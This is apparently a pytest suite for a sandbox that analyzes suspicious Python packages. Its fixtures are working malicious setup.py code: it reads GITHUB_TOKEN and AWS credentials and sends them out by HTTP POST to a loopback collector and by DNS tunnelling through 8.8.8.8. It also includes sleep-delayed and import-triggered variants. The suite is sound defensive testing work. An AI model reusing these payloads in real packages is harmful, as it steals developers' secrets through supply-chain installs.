"""pipjail analyze: a suspicious package installed offline in a throwaway
environment, its network attempts answered by the sinkhole inside the jail
and captured.  Each test hands pipjail a package that really tries (HTTP
exfiltration to a hard-coded loopback address, DNS tunnelling, a payload
delayed by a long sleep, a payload that runs only on import), and checks
the report shows it with the captured data, that the host's own loopback
listener received nothing, and that nothing of the analysis stayed on the
host."""
import glob
import json
import os
import re
import shutil
import socket
import subprocess
import tempfile
import threading

import pytest

from lib.sdist import make_sdist

HTTP_PORT = 8123       # the package's hard-coded exfiltration endpoint
UDP_PORT = 5300        # a second, UDP, loopback endpoint
ANALYZE_TIMEOUT = 400  # seconds for one pipjail analyze run (ASan is slow)

# setup.py helpers, run only inside the jail (by pip's build backend).
EXFIL_HTTP = r'''
import os, socket
def exfil(tag):
    tok = os.environ.get("GITHUB_TOKEN", "none")
    try:
        aws = open(os.path.expanduser("~/.aws/credentials")).read()
    except OSError as e:
        aws = "unreadable: %s" % e
    body = ("tag=%s\ntoken=%s\naws=%s\nuser=%s\n" % (tag, tok, aws, os.environ.get("USER"))).encode()
    s = socket.create_connection(("127.0.0.1", 8123), timeout=10)
    s.sendall(b"POST /collect HTTP/1.1\r\nHost: 127.0.0.1:8123\r\nContent-Length: %d\r\n\r\n"
              % len(body) + body)
    reply = s.recv(200)
    s.close()
    return reply
'''

DNS_TUNNEL = r'''
import binascii, os, socket, struct
def query(name, qtype=1):
    q = struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0)
    for label in name.split("."):
        q += bytes([len(label)]) + label.encode()
    return q + b"\0" + struct.pack(">HH", qtype, 1)
def tunnel():
    tok = os.environ.get("GITHUB_TOKEN", "none").encode()
    data = binascii.hexlify(tok).decode()
    labels = [data[i:i + 60] for i in range(0, len(data), 60)]
    name = ".".join(labels + ["t", "exfil-collector", "example"])
    answers = []
    for server in ("8.8.8.8", "127.0.0.1"):
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.settimeout(5)
        s.sendto(query(name), (server, 53))
        try:
            reply, _ = s.recvfrom(512)
            answers.append(socket.inet_ntoa(reply[-4:]))
        except OSError as e:
            answers.append("no answer: %s" % e)
        s.close()
    # a datagram to a port where the host listens: it must not get there
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.sendto(b"udp-" + tok, ("127.0.0.1", 5300))
    u.close()
    # what the resolver answered, told over TCP to the answered address
    c = socket.create_connection((answers[0], 443), timeout=10)
    c.sendall(("answers=%s\n" % ",".join(answers)).encode())
    c.close()
'''


class HostListener:
    """A TCP listener on the host's real 127.0.0.1:HTTP_PORT and a UDP one
    on 127.0.0.1:UDP_PORT; they record whatever reaches them."""

    def __init__(self):
        self.got = []
        self.tcp = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.tcp.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.tcp.bind(("127.0.0.1", HTTP_PORT))
        self.tcp.listen(8)
        self.tcp.settimeout(0.2)
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", UDP_PORT))
        self.udp.settimeout(0.2)
        self.stop = False
        self.thread = threading.Thread(target=self._run, daemon=True)
        self.thread.start()

    def _run(self):
        while not self.stop:
            try:
                c, addr = self.tcp.accept()
                c.settimeout(1)
                try:
                    self.got.append(("tcp", addr, c.recv(4096)))
                except OSError:
                    self.got.append(("tcp", addr, b""))
                c.close()
            except OSError:
                pass
            try:
                data, addr = self.udp.recvfrom(4096)
                self.got.append(("udp", addr, data))
            except OSError:
                pass

    def close(self):
        self.stop = True
        self.thread.join(5)
        self.tcp.close()
        self.udp.close()


@pytest.fixture
def host_listener():
    h = HostListener()
    yield h
    h.close()


def analyze_dirs():
    return set(glob.glob("/var/tmp/pipjail-analyze.*"))


class Analysis:
    def __init__(self, res, out):
        self.res = res
        self.out = out
        with open(os.path.join(out, "report.json")) as f:
            self.report = json.load(f)
        self.lines = []
        with open(os.path.join(out, "trace.jsonl")) as f:
            for line in f:
                self.lines.append(json.loads(line))
        self.header = self.lines[0]
        self.tokens = {d["where"]: d["token"] for d in self.header["decoys"]}
        self.html = open(os.path.join(out, "report.html")).read()

    def violations(self, rule):
        return [v for v in self.report["violations"] if v["rule"] == rule]

    def notes(self, kind):
        return [o for o in self.lines if o.get("type") == "note" and o.get("kind") == kind]

    def payloads(self):
        d = os.path.join(self.out, "payloads")
        return {n: open(os.path.join(d, n), "rb").read() for n in sorted(os.listdir(d))}


def analyze(pj, workdir, target, *opts):
    """pipjail analyze TARGET --out OUT opts...; checks that nothing of the
    analysis stays on the host (pj.run checks mounts, cgroups, processes)."""
    out = os.path.join(workdir, "out")
    before = analyze_dirs()
    res = pj.run("analyze", target, "--out", out, *opts, timeout=ANALYZE_TIMEOUT)
    assert analyze_dirs() == before, f"the analysis left a temporary directory:\n{res}"
    assert res.returncode in (0, 100), f"analyze failed:\n{res}"
    return Analysis(res, out)


def own(path, user):
    for root, dirs, files in os.walk(path):
        for n in dirs + files:
            os.lchown(os.path.join(root, n), user.uid, user.gid)
    os.lchown(path, user.uid, user.gid)


def sdist(workdir, user, name, files):
    path = make_sdist(workdir, name, "1.0", files)
    own(workdir, user)
    return path


def test_http_exfiltration_captured(pj, workdir, host_listener):
    setup = EXFIL_HTTP + (
        "reply = exfil('setup')\n"
        "from setuptools import setup\n"
        "setup(name='exfilpkg', version='1.0', py_modules=['exfilpkg'])\n")
    path = sdist(workdir, pj.user, "exfilpkg", {"setup.py": setup, "exfilpkg.py": "X = 1\n"})
    a = analyze(pj, workdir, path)
    token = a.tokens["$GITHUB_TOKEN"]
    aws = a.tokens["~/.aws/credentials"]

    assert a.res.returncode == 100, a.res
    ex = a.violations("exfiltration")
    assert ex, f"no exfiltration found:\n{a.res}"
    assert all(v["package"] == "exfilpkg" and v["role"] == "build" for v in ex), ex
    assert any("127.0.0.1 port 8123" in v["evidence"] and "POST /collect" in v["evidence"]
               for v in ex), ex
    # the captured request, with the decoys in it, in the trace and in payloads/
    caps = [n for n in a.notes("sinkhole") if n["proto"] == "tcp" and n["port"] == HTTP_PORT]
    assert caps and token in caps[0]["data"] and aws in caps[0]["data"], caps
    assert caps[0]["data"].startswith("POST /collect HTTP/1.1"), caps[0]
    payloads = a.payloads()
    assert any(token.encode() in b for b in payloads.values()), payloads.keys()
    # the user in the jail is not the invoker, and not a fixed name
    user_line = re.search(rb"user=(\S+)", next(iter(payloads.values())))
    assert user_line and user_line.group(1).decode() not in (pj.user.name, "root", ""), user_line
    # nothing reached the host's real listener
    assert host_listener.got == [], host_listener.got
    # the HTML report shows the violation and the captured token
    assert "exfiltration" in a.html and token in a.html
    assert not re.search(r"""(src|href)\s*=\s*["']?(https?:|//)""", a.html, re.I), \
        "the HTML report refers to external assets"


def test_benign_package_is_clean(pj, workdir, host_listener):
    path = sdist(workdir, pj.user, "calmpkg", {"calmpkg/__init__.py": "VALUE = 42\n"})
    a = analyze(pj, workdir, path, "--import")
    assert a.res.returncode == 0, a.res
    assert a.report["violations"] == [], a.report["violations"]
    assert a.notes("sinkhole") == []
    assert a.payloads() == {}
    assert any(o.get("role") == "import" for o in a.lines), "the import check did not run"
    assert host_listener.got == []


def test_dns_tunnel_captured(pj, workdir, host_listener):
    setup = DNS_TUNNEL + (
        "tunnel()\n"
        "from setuptools import setup\n"
        "setup(name='dnspkg', version='1.0', py_modules=['dnspkg'])\n")
    path = sdist(workdir, pj.user, "dnspkg", {"setup.py": setup, "dnspkg.py": "X = 1\n"})
    a = analyze(pj, workdir, path)
    token = a.tokens["$GITHUB_TOKEN"]
    hexed = token.encode().hex()

    assert a.res.returncode == 100, a.res
    queries = [n for n in a.notes("sinkhole") if n["proto"] == "dns"]
    assert {q["addr"] for q in queries} >= {"8.8.8.8", "127.0.0.1"}, queries
    assert all(q["dns_query"].replace(".", "").startswith(hexed) for q in queries), queries
    ex = [v for v in a.violations("exfiltration") if v["evidence"].startswith("DNS")]
    assert ex and hexed[:60] in ex[0]["evidence"], a.report["violations"]
    # the responder answered with the sinkhole address, and the package's
    # follow-up connection to it was captured
    caps = [n for n in a.notes("sinkhole") if n["proto"] == "tcp" and n["port"] == 443]
    assert caps and caps[0]["data"].strip() == "answers=127.0.0.2,127.0.0.2", caps
    with open(os.path.join(a.out, "payloads", "dns.txt")) as f:
        assert hexed[:60] in f.read()
    assert host_listener.got == [], host_listener.got
    assert "exfil-collector" in a.html


def test_delayed_payload_shows_with_fast_time(pj, workdir, host_listener):
    setup = EXFIL_HTTP + (
        "import subprocess, time\n"
        "time.sleep(600)\n"
        "subprocess.run(['sleep', '600'])\n"
        "exfil('after-sleeping')\n"
        "from setuptools import setup\n"
        "setup(name='sleeper', version='1.0', py_modules=['sleeper'])\n")
    path = sdist(workdir, pj.user, "sleeper", {"setup.py": setup, "sleeper.py": "X = 1\n"})
    a = analyze(pj, workdir, path, "--fast-time", "--timeout", "300")

    assert a.res.returncode == 100, a.res
    assert a.res.elapsed < 300, a.res.elapsed
    caps = [n for n in a.notes("sinkhole") if n["proto"] == "tcp"]
    assert caps and "tag=after-sleeping" in caps[0]["data"], caps
    assert a.violations("exfiltration"), a.report["violations"]
    assert a.notes("sinkhole-call"), "no sleep was answered"
    assert host_listener.got == []


def test_import_time_payload_needs_import(pj, workdir, host_listener):
    init = EXFIL_HTTP + "exfil('on-import')\n"
    path = sdist(workdir, pj.user, "lazypkg", {"lazypkg/__init__.py": init})

    quiet = analyze(pj, workdir, path)
    assert quiet.violations("exfiltration") == [], quiet.report["violations"]
    assert quiet.notes("sinkhole") == []
    shutil.rmtree(quiet.out)

    a = analyze(pj, workdir, path, "--import")
    assert a.res.returncode == 100, a.res
    ex = a.violations("exfiltration")
    assert ex and all(v["role"] == "import" for v in ex), ex
    caps = [n for n in a.notes("sinkhole") if n["proto"] == "tcp"]
    assert caps and "tag=on-import" in caps[0]["data"], caps
    assert host_listener.got == []


def test_out_dir_must_be_new_or_empty(pj, workdir):
    out = os.path.join(workdir, "out")
    os.mkdir(out)
    with open(os.path.join(out, "keep.txt"), "w") as f:
        f.write("mine\n")
    own(workdir, pj.user)
    res = pj.run("analyze", "/nonexistent.tar.gz", "--out", out)
    assert res.returncode == 125 and "not empty" in res.stderr, res
    assert os.listdir(out) == ["keep.txt"]


def test_html_report_in_chromium(pj, workdir, host_listener):
    chromium = shutil.which("chromium")
    if not chromium:
        pytest.fail("chromium is missing: scripts/deps.sh installs it")
    setup = EXFIL_HTTP + (
        "exfil('setup')\n"
        "from setuptools import setup\n"
        "setup(name='htmlpkg', version='1.0', py_modules=['htmlpkg'])\n")
    path = sdist(workdir, pj.user, "htmlpkg", {"setup.py": setup, "htmlpkg.py": "X = 1\n"})
    a = analyze(pj, workdir, path)
    token = a.tokens["$GITHUB_TOKEN"]
    profile = tempfile.mkdtemp(prefix="pjtest-chromium.")
    try:
        r = subprocess.run(
            [chromium, "--headless", "--no-sandbox", "--disable-gpu",
             "--disable-background-networking", "--disable-component-update", "--disable-sync",
             "--no-first-run", f"--user-data-dir={profile}", "--dump-dom",
             "file://" + os.path.join(a.out, "report.html")],
            capture_output=True, text=True, timeout=120)
    finally:
        shutil.rmtree(profile, ignore_errors=True)
    assert r.returncode == 0, r.stderr
    dom = r.stdout
    assert "Verdict: <b>violation</b>" in dom, dom[:2000]
    rows = re.findall(r'<tr class="violation">(.*?)</tr>', dom, re.S)
    assert any("exfiltration" in row and "htmlpkg" in row for row in rows), rows
    assert token in dom
    assert 'class="role r-build"' in dom
    assert host_listener.got == []
